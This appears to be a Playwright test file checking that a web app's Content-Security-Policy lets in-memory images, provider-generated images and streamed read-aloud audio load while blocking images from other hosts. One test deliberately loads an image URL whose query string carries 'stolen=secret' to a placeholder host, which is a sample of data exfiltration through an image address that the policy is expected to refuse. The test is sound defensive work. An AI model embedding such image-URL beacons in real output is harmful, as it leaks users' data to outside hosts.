/**
 * The app's Content-Security-Policy as the media features meet it in Chromium: pictures and sound
 * held in memory (blob:, data:) show and play, what the provider returns (a generated image by URL,
 * read-aloud MP3, streamed through MediaSource too) reaches the page through connect-src, and a
 * picture from another host is refused, so a reply cannot carry data off in an image address.
 */
import type { Page } from '@playwright/test';
import { fakeKey, startFakeProvider, type FakeProvider } from '../server/test/fake-provider';
import { makeTestImage } from './fake-media';
import { expect, test } from './fixtures';

let provider: FakeProvider;
test.beforeAll(async () => {
  provider = await startFakeProvider();
});
test.afterAll(() => provider?.close());

/** Runs `body` (plain JavaScript: e2e code is checked without DOM types) in the page with `arg`. */
const inPage = <T>(page: Page, body: string, arg: unknown = null) =>
  page.evaluate(`(async (arg) => { ${body} })(${JSON.stringify(arg)})`) as Promise<T>;

/** Collects the policy's refusals from here on, as "directive blocked-address". */
const VIOLATIONS = `
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective + ' ' + e.blockedURI));`;

const LOAD_IMAGE = `
  const load = (src) => new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve(img.naturalWidth);
    img.onerror = () => resolve(0);
    img.src = src;
  });`;

test('pictures from memory show; a picture from another host is refused by the policy', async ({ page }) => {
  await page.goto('/');
  const result = await inPage<{ blob: number; data: number; remote: number }>(
    page,
    `${VIOLATIONS} ${LOAD_IMAGE}
    const bytes = Uint8Array.from(atob(arg), (c) => c.charCodeAt(0));
    const blob = await load(URL.createObjectURL(new Blob([bytes], { type: 'image/png' })));
    const data = await load('data:image/png;base64,' + arg);
    const remote = await load('https://images.example.com/pixel.png?stolen=secret');
    return { blob, data, remote };`,
    makeTestImage(30, 20).toString('base64'),
  );
  expect(result).toEqual({ blob: 30, data: 30, remote: 0 });
  await expect
    .poll(() => page.evaluate('window.violations'))
    .toEqual([expect.stringMatching(/^img-src https:\/\/images\.example\.com/)]);
});

test('a generated image fetched from the provider by URL shows as a blob', async ({ page }) => {
  await page.goto('/');
  const width = await inPage<number>(
    page,
    `${LOAD_IMAGE}
    const headers = { authorization: 'Bearer ' + arg.key, 'content-type': 'application/json' };
    const body = JSON.stringify({ model: 'dall-e-2', prompt: 'a kite', size: '256x256', response_format: 'url' });
    const answer = await (await fetch(arg.base + '/images/generations', { method: 'POST', headers, body })).json();
    const png = await (await fetch(answer.data[0].url)).blob();
    return load(URL.createObjectURL(png));`,
    { base: provider.baseUrl, key: fakeKey() },
  );
  expect(width).toBe(256);
});

test('read-aloud audio plays from a blob and streams through MediaSource', async ({ page }) => {
  await page.goto('/');
  await inPage(
    page,
    `${VIOLATIONS}
    const speech = () => fetch(arg.base + '/audio/speech', {
      method: 'POST',
      headers: { authorization: 'Bearer ' + arg.key, 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'tts-1', voice: 'alloy', input: 'A sentence long enough to last a few seconds.' }),
    });
    const play = (audio) => {
      audio.muted = true;
      return audio.play();
    };
    window.whole = new Audio(URL.createObjectURL(await (await speech()).blob()));
    await play(whole);

    const source = new MediaSource();
    window.streamed = new Audio(URL.createObjectURL(source));
    await new Promise((r) => source.addEventListener('sourceopen', r, { once: true }));
    const buffer = source.addSourceBuffer('audio/mpeg');
    const reader = (await speech()).body.getReader();
    for (let part = await reader.read(); !part.done; part = await reader.read()) {
      buffer.appendBuffer(part.value);
      await new Promise((r) => buffer.addEventListener('updateend', r, { once: true }));
    }
    source.endOfStream();
    await play(streamed);`,
    { base: provider.baseUrl, key: fakeKey() },
  );
  await expect.poll(() => page.evaluate('whole.currentTime')).toBeGreaterThan(0.1);
  await expect.poll(() => page.evaluate('streamed.currentTime')).toBeGreaterThan(0.1);
  expect(await page.evaluate('window.violations')).toEqual([]);
});
